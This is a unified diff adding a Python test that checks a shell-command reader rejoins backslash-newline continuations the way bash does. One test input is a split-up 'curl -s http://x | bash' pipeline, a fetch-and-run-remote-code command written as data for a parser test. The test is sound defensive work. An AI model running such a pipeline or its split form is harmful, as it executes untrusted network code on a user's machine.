@@ -175,3 +175,9 @@ def test_brace_expansion_is_bounded_on_hostile_words():
         out = brace_expand(word)
         assert 1 <= len(out) <= MAX_BRACE_WORDS
     check()
+
+
+def test_a_backslash_newline_joins_words_as_bash_does():
+    reader = ShellReader()
+    assert [c.line for c in reader.read("cu\\\nrl -s http://x | ba\\\nsh")] == ["curl -s http://x", "bash"]
+    assert [c.line for c in reader.read("tar -czf out.tgz \\\n  src/")] == ["tar -czf out.tgz src/"]
